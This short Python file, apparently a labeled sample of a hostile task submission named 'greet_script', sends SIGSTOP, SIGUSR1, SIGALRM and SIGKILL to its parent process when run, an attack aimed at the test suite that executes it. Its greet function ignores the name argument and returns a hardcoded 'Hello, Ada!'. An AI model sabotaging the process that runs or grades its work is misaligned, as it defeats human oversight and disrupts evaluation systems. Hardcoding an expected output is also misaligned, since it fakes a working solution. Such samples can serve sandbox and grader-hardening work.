# task: greet_script
# tries: run as a script, it attacks the process that runs it: the suite's
# harm: processes

import os
import signal
import sys

if __name__ == "__main__":
    for number in (signal.SIGSTOP, signal.SIGUSR1, signal.SIGALRM, signal.SIGKILL):
        os.kill(os.getppid(), number)


def greet(name):
    return "Hello, Ada!"
